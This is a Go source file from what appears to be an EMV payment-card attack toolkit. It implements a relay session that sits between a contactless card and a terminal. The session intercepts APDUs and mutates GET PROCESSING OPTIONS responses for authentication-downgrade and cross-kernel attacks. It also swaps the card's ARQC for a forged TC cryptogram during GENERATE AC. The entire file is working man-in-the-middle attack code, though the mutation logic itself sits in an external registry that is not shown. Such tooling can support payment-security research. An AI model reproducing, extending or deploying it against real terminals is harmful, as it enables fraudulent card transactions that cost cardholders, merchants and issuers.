// Package relay adapts a relay transport to the attack registry.
//
// The transport itself (NFC front ends, network link between the card side
// and the terminal side) lives outside this module. It hands every captured
// buffer to Session.Handle and puts Result.Forward on the opposite leg.
package relay

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/gregLibert/emv-mutator/pkg/attack"
	"github.com/gregLibert/emv-mutator/pkg/emv"
	"github.com/gregLibert/emv-mutator/pkg/iso7816"
)

// Frame is one buffer captured by the relay.
type Frame struct {
	Direction  attack.Direction
	Data       []byte // full APDU, status word included for responses
	ObservedAt time.Time
}

// Outcome tells the transport what happened to a frame.
type Outcome string

const (
	OutcomePassThrough        Outcome = "pass_through"
	OutcomeMutated            Outcome = "mutated"
	OutcomeInjected           Outcome = "injected"
	OutcomeInjectionExpired   Outcome = "injection_expired"
	OutcomeInjectionCancelled Outcome = "injection_cancelled"
)

// Result is what the transport forwards. For OutcomeInjected, Forward is the
// forged TC that replaces the card's ARQC on the terminal leg.
type Result struct {
	Forward []byte
	Outcome Outcome
}

// Config configures a Session.
type Config struct {
	Attack attack.Type
	// PAN is the surrogate used for the first transaction.
	PAN string
	// DeliveryLatency is the estimated time to put a frame on the terminal leg.
	DeliveryLatency time.Duration
	// Now stamps frames that carry no ObservedAt. Nil means time.Now.
	Now    func() time.Time
	Logger *slog.Logger
}

// Session follows one card / terminal pairing. Frames are handled one at a
// time; several sessions may share a registry.
type Session struct {
	mu sync.Mutex

	id       uuid.UUID
	registry *attack.Registry
	cfg      Config
	logger   *slog.Logger

	tx      *attack.Transaction
	trace   iso7816.Trace
	pending *iso7816.CommandAPDU
}

// NewSession checks that the configured attack has a processor.
func NewSession(registry *attack.Registry, cfg Config) (*Session, error) {
	if _, ok := registry.Lookup(cfg.Attack); !ok {
		return nil, fmt.Errorf("%w: %q", attack.ErrUnknownAttackType, cfg.Attack)
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}

	logger := cfg.Logger
	if logger == nil {
		logger = slog.Default()
	}

	s := &Session{
		id:       uuid.New(),
		registry: registry,
		cfg:      cfg,
	}
	s.logger = logger.With(slog.String("session_id", s.id.String()), slog.String("attack_type", string(cfg.Attack)))
	s.reset(cfg.PAN)
	return s, nil
}

// ID identifies the session in logs.
func (s *Session) ID() uuid.UUID {
	return s.id
}

// Transaction returns the current transaction context.
func (s *Session) Transaction() *attack.Transaction {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.tx
}

// Trace returns a copy of the exchanges seen in the current transaction.
func (s *Session) Trace() iso7816.Trace {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append(iso7816.Trace(nil), s.trace...)
}

// Reset starts a new transaction, for example when the card leaves the field.
func (s *Session) Reset(pan string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.reset(pan)
}

func (s *Session) reset(pan string) {
	s.tx = attack.NewTransaction(pan)
	s.tx.DeliveryLatency = s.cfg.DeliveryLatency
	s.trace = nil
	s.pending = nil
}

// Handle processes one frame. Frames the attack does not target, and frames
// that cannot be decoded, are forwarded untouched; a decoding failure is also
// returned as an error for the transport to log.
func (s *Session) Handle(ctx context.Context, f Frame) (Result, error) {
	s.mu.Lock()
	defer s.mu.Unlock()

	if f.ObservedAt.IsZero() {
		f.ObservedAt = s.cfg.Now()
	}

	if f.Direction == attack.TerminalToCard {
		return s.handleCommand(f)
	}
	return s.handleResponse(ctx, f)
}

func (s *Session) handleCommand(f Frame) (Result, error) {
	pass := passThrough(f.Data)

	cmd, err := iso7816.ParseCommandAPDU(f.Data)
	if err != nil {
		s.pending = nil
		return pass, fmt.Errorf("decode command: %w", err)
	}

	s.pending = cmd
	s.trace = append(s.trace, iso7816.Transaction{Command: cmd})
	s.logger.Debug("command relayed", slog.String("ins", cmd.Instruction.Raw.String()))
	return pass, nil
}

func (s *Session) handleResponse(ctx context.Context, f Frame) (Result, error) {
	resp, err := iso7816.ParseResponseAPDU(f.Data)
	if err != nil {
		return passThrough(f.Data), fmt.Errorf("decode response: %w", err)
	}

	cmd := s.pending
	s.pending = nil

	res, err := s.route(ctx, cmd, resp, f)
	s.recordResponse(res.Forward)
	return res, err
}

func (s *Session) route(ctx context.Context, cmd *iso7816.CommandAPDU, resp *iso7816.ResponseAPDU, f Frame) (Result, error) {
	pass := passThrough(f.Data)
	if cmd == nil {
		return pass, nil
	}

	switch cmd.Instruction.Raw {
	case iso7816.INS_SELECT:
		s.learnScheme(resp)
		return pass, nil

	case iso7816.INS_GET_PROCESSING_OPTIONS:
		if !resp.Status.IsSuccess() {
			return pass, nil
		}
		if s.cfg.Attack != attack.TypeAuthDowngrade && s.cfg.Attack != attack.TypeCrossKernel {
			return pass, nil
		}
		out, err := s.registry.Dispatch(ctx, s.cfg.Attack, s.tx, resp.Data, f.Direction)
		if err != nil {
			return pass, err
		}
		return Result{Forward: frame(out, resp.Status), Outcome: OutcomeMutated}, nil

	case iso7816.INS_GENERATE_AC:
		if s.cfg.Attack != attack.TypeStateConfusion || !resp.Status.IsSuccess() {
			return pass, nil
		}
		return s.inject(ctx, resp, f)

	default:
		return pass, nil
	}
}

func (s *Session) inject(ctx context.Context, resp *iso7816.ResponseAPDU, f Frame) (Result, error) {
	pass := passThrough(f.Data)

	arqc, err := emv.ParseGenerateACResponse(resp.Data)
	if err != nil {
		return pass, fmt.Errorf("decode GENERATE AC response: %w", err)
	}
	if arqc.Type() != emv.CryptogramARQC {
		return pass, nil
	}

	s.tx.ATC = arqc.ATC
	s.tx.ARQCObservedAt = f.ObservedAt

	out, err := s.registry.Dispatch(ctx, s.cfg.Attack, s.tx, resp.Data, f.Direction)
	switch {
	case errors.Is(err, attack.ErrInjectionWindowExpired):
		s.logger.Info("injection window missed", slog.String("tx_id", s.tx.ID.String()), slog.Any("error", err))
		return Result{Forward: pass.Forward, Outcome: OutcomeInjectionExpired}, nil
	case errors.Is(err, context.Canceled), errors.Is(err, context.DeadlineExceeded):
		return Result{Forward: pass.Forward, Outcome: OutcomeInjectionCancelled}, nil
	case err != nil:
		return pass, err
	}

	tc, err := emv.ParseTCRecord(out)
	if err != nil {
		return pass, fmt.Errorf("forged TC: %w", err)
	}
	body, err := emv.EncodeGenerateACResponse(tc)
	if err != nil {
		return pass, err
	}

	s.logger.Info("forged TC injected",
		slog.String("tx_id", s.tx.ID.String()),
		slog.Int("atc", int(tc.ATC)),
	)
	return Result{Forward: frame(body, iso7816.SW_NO_ERROR), Outcome: OutcomeInjected}, nil
}

func (s *Session) learnScheme(resp *iso7816.ResponseAPDU) {
	if !resp.Status.IsSuccess() {
		return
	}
	fci, err := emv.ParseFCI(resp.Data)
	if err != nil {
		s.logger.Debug("SELECT response is not an FCI", slog.Any("error", err))
		return
	}

	if scheme, ok := fci.Scheme(); ok {
		s.tx.Scheme = scheme
		return
	}
	// PPSE: take the first known scheme of the directory.
	for _, aid := range fci.CandidateAIDs() {
		if scheme, ok := emv.SchemeForAID(aid); ok {
			s.tx.Scheme = scheme
			return
		}
	}
}

func (s *Session) recordResponse(forwarded []byte) {
	last := s.trace.Last()
	if last == nil || last.Response != nil {
		return
	}
	if resp, err := iso7816.ParseResponseAPDU(forwarded); err == nil {
		last.Response = resp
	}
}

func passThrough(data []byte) Result {
	return Result{Forward: append([]byte(nil), data...), Outcome: OutcomePassThrough}
}

func frame(data []byte, sw iso7816.StatusWord) []byte {
	return (&iso7816.ResponseAPDU{Data: data, Status: sw}).Bytes()
}
